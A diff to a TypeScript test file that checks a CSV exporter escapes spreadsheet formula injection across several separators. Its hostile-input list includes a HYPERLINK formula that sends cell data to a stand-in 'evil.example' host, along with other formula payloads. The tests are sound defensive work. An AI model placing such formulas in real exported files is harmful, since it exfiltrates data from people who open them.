@@ -30,32 +30,23 @@ function cellsBy(separator: string, file: string): string[] {
 }
 
 const HOSTILE = [
-  '=1+1',
-  '＝1+1',
-  ' +1',
-  '"=1+1"',
-  '\t=1+1',
-  '\n=1+1',
+  ...['=1+1', '＝1+1', ' +1', '＋1', '－1', '＠SUM(A1)', '@SUM(A1)', '"=1+1"', '\t=1+1', '\n=1+1'],
   'A message;=HYPERLINK("https://evil.example?"&A1);and more',
   'A message; "=1+1";',
   'A message;"";=1+1;',
-  'A message\n=1+1\nand more',
-  'A message\r\n@SUM(1)\r\n-1',
-  'A message\t=1+1\t',
+  ...['A message\n=1+1\nand more', 'A message\r\n@SUM(1)\r\n-1', 'A message\t=1+1\t'],
   'quoted ""\n"=1+1\n',
 ];
 
-test.each([',', ';', '\t'])(
-  'no text of a visitor is a formula where cells are divided by %j',
-  (separator) => {
-    for (const text of HOSTILE) {
-      const cells = cellsBy(separator, toCsv([['Name', text, 'Note']]));
-      for (const cell of cells) expect(cell.normalize('NFKC'), text).not.toMatch(/^[\s"]*[=+\-@]/);
-    }
-  },
-);
+test.each([',', ';', '\t'])('CSV: no text is a formula with cells divided by %j', (separator) => {
+  for (const text of HOSTILE) {
+    const cells = cellsBy(separator, toCsv([['Name', text, 'Note']]));
+    for (const cell of cells) expect(cell.normalize('NFKC'), text).not.toMatch(/^[\s"]*[=+\-@]/);
+  }
+});
 
-test('other texts stay as they are', () => {
+test('CSV: other texts stay as they are', () => {
   const text = 'Dear all; it is "2+2 = 4", mail me@example.com.\nThanks, Ann-Marie';
-  expect(toCsv([[text]])).toBe(`\uFEFF"${text.replaceAll('"', '""')}"\r\n`);
+  const cell = `"${text.replaceAll('"', '""')}"`;
+  expect(toCsv([[text, 'b'], [text]])).toBe(`\uFEFF${cell},"b"\r\n${cell}\r\n`);
 });
